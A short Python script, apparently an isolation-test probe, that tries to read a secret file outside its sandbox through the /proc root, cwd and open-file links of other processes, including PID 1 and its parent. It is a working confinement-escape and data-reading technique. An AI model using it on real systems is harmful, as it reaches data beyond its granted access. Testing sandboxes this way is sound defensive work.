"""Goes out through a link of another process: to its root, its working directory or an open file."""

import contextlib
import os
import sys
from pathlib import Path

secret = os.environ["OUTSIDE"] + "/secret"
for process in {os.environ["VICTIM"], "1", str(os.getppid()), *(name for name in os.listdir("/proc") if name.isdigit())}:
    ways = {"root": [f"root/{secret}"], "cwd": ["cwd/secret"], "fd": [f"fd/{number}" for number in range(16)]}
    for way in ways[sys.argv[1]]:
        path = Path("/proc", process, way)
        with contextlib.suppress(OSError):
            # Pipes and terminals would make it wait.
            if path.is_file():
                print(path.read_bytes()[:100])
